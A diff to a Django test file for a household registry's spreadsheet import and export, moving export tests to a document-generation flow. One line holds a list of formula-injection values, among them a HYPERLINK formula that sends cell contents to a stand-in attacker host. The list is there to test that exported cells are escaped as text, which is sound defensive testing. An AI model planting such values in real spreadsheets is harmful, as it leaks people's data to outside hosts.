@@ -4,13 +4,13 @@ import io
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import TestCase
 from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
 from members.models import FamilyCategory, Household, Person
 from tests.factories import make_group
 from tests.factories.members import head, id_number, make_household, person_fields
-from villages.models import SensitiveAccess
 
 HEADER = ["household number", "village", "villager group", "address", "hukou type", "poverty status",
           "poverty status since", "name", "identity number", "sex", "birth date", "ethnicity",
@@ -154,41 +154,7 @@ def test_confirming_without_the_checked_upload_saves_nothing(client, specialist,
     assert response.status_code == 302 and not Household.objects.exists()
 
 
-# Exports
-
-def test_specialist_exports_with_identity_numbers_and_the_export_is_logged(client, specialist, village):
-    household = make_household(village=village, by=specialist)
-    client.force_login(specialist)
-
-    response = client.get(reverse("members:export", args=["xlsx"]))
-
-    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
-    rows = list(sheet.iter_rows(values_only=True))
-    assert "identity number" in rows[0] and len(rows) == 3
-    assert head(household).id_number in {cell for row in rows for cell in row}
-    assert SensitiveAccess.objects.get(action="export").count == 2
-
-
-def test_leadership_gets_no_export(client, leader, village):
-    make_household(village=village)
-    client.force_login(leader)
-    assert client.get(reverse("members:export", args=["csv"])).status_code == 404
-    assert not SensitiveAccess.objects.exists()
-
-
-def test_export_holds_only_the_users_village(client, specialist, village, other_village):
-    make_household(village=other_village, number="9001")
-    client.force_login(specialist)
-    text = client.get(reverse("members:export", args=["csv"])).content.decode("utf-8-sig")
-    assert "9001" not in text
-
-
-def test_export_filtered_by_another_villages_group_answers_404(client, specialist, other_village):
-    group = make_group(village=other_village, number=1)
-    client.force_login(specialist)
-    assert client.get(reverse("members:export", args=["csv"]), {"group": group.pk}).status_code == 404
-    assert client.get(reverse("members:export", args=["pdf"])).status_code == 404
-
+# Exports (built as documents: tests/reports/test_exports.py)
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]
 
@@ -212,7 +178,12 @@ def test_export_cells_that_start_like_a_formula_are_kept_as_text(client, special
         Household.objects.filter(address="").exclude(pk=household.pk).update(address=text)
     client.force_login(specialist)
 
-    content = client.get(reverse("members:export", args=[fmt])).content
+    from reports.models import Document
+
+    with TestCase.captureOnCommitCallbacks(execute=True):
+        client.post(reverse("reports:registry_export", args=[fmt]))
+    document = Document.objects.get(kind="registry_export")
+    content = client.get(reverse("reports:document_download", args=[document.pk])).getvalue()
 
     if fmt == "xlsx":
         sheet = load_workbook(io.BytesIO(content)).worksheets[0]
